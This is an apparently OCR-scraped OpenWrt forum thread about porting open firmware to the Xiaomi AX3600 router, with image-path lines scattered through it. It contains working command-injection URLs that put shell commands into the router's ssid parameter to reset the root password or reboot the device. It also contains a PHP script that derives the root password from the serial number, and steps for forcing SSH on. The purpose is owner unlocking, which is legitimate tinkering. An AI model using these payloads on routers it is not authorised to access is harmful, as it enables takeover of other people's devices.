Adding OpenWrt support for Xiaomi AX3600 (Part 1)

Where can one see the algorithm from which I can derive the root password?

You can use the following code to change the root password to "admin";stok=<STOK>/api/misystem/set_config_iotdev?bssid=Xiaomi&user_id=longdike&ssid=-h%3B%20echo%20-e%20'admin%5Cnadmin'%20%7C%20passwd%20root%3B


But I am also interested in the algorithm they used to create the root password based on device SN. If you can point me in the right direction.

#!/usr/bin/env php
$salt = array(
    'r1d' => 'A2E371B0-B34B-48A5-8C40-A7133F3B5D88',
    'others' => 'd44fb0960aa0-a5e6-4a30-250f-6d2df50a'

isset($argv[1]) or die('Usage: ' . $argv[0] . " SN\n");

function print_line($message) {echo $message . "\n";

function get_passwd($sn) {
    return substr(md5($sn . get_salt($sn)), 0, 8);

function get_salt($sn) {
    global $salt;
    if (false === strpos($sn, '/')) {
        return $salt['r1d'];
    } else {
        return swap_salt($salt['others']);

function swap_salt($salt) {
    return implode('-', array_reverse(explode('-', $salt)));

use it like this:pi@DESKTOP-55HOBQT:/mnt/c/Users/someone/Desktop$ php a.php 10508/00771881


Thanks mate,
I appreciate it!

Is there anyway to help get openwrt to AX3600?
I may be able to handle programming, but I have no idea on how devices/kernels/drivers etc work and where I should start, how to test etc.

I am also in :slight_smile:


complete ttl contact
copy boot log

1 Likesecure boot fuse is not enabled :laughing:


Perhaps a dumb question, but I'm in the market for a new router/ap. I don't trust Xiaomi enough to make it my main device if I can't put OpenWRT on it. I am however, willing to run it temporarily behind my current router and block all traffic in their direction, until I can actually do so.

Does this finding mean that an OpenWRT build has a good chance of happening in the next 6-12months?


It is way too early to answer this question, a lot can still go wrong and I haven't seen anyone even started working on a port for it. While chances aren't too bad, you won't know untilsomeone at least submits a first approach as a pull request (even that won't give you any guarantees, until the patch set has actually been merged, but it would at least show you what would be possible - right now, it's still a va banque game).

1 Like


Thanks for the tips to lead to getting SSH. On the unit I just received and downgraded to 1.0.17 - none of your commands as written worked. This appears to be due to the fact that this firmware performs some auto-filtering of characters that could lead to escape. Specifically ; & $ appear to not be permitted. After searching around a bit I came across this article:

In there it details that you can use newlines (%0A) [percent zero capital-A] instead of semicolons with some Xiaomi routers. With that, I was able to confirm escape via the following URL:;stok=/api/misystem/set_config_iotdev?bssid=Xiaomi&user_id=longdike&ssid=%0Areboot%0A

Which, happily, rebooted the router. From there I was able to enable nvram SSH and then deleted the IF in /etc/init.d/dropbear by piping the dropbear contents to sed '135d' three times (which deleted the IF, the return 0, and the FI to stop the init file from keeping SSH off). I then used your command to change admin password, however, there is a password length requirement (8 characters seemed to do the trick).

I have confirmed that the %0Areboot%0A does not work on the 1.0.50 firmware (which is the latest as of this post).

Let me know if anyone would like more specifics or details. Happy to help to bring OpenWRT to this puppy.

You can take a look here: XiaomiAX3600 DTS
Someone is already trying to gather the necessary information (slh and efsg).

I gave the AX3600 to zhiping, soon...

1 Like


As you have serial port access, do you need anything from a persistent SSH perspective?

I do not know...
(MiWiFi/HiWiFi)Xiaomi can block at any time

Correct - the exploit I leveraged only works via downgrading to 1.0.17. As of 1.0.50 - it cannot be used as the method has been patched.

Yes, but we could still use 1.0.17 as a vector to get in the router and flash openwrt. Even as an install instruction it shouldn't be something difficult to do(as long as Xiaomi doesn't releasefirmwares that blocks downgrade-ing to 1.0.17).

What we need now is a openwrt build for this device, right?

Hello new in openwrt becausefollowing this router as i see movement for a posible futureopenwrt firmware i buyed today one!

Hopecan we get this ax3600router!!

we can win!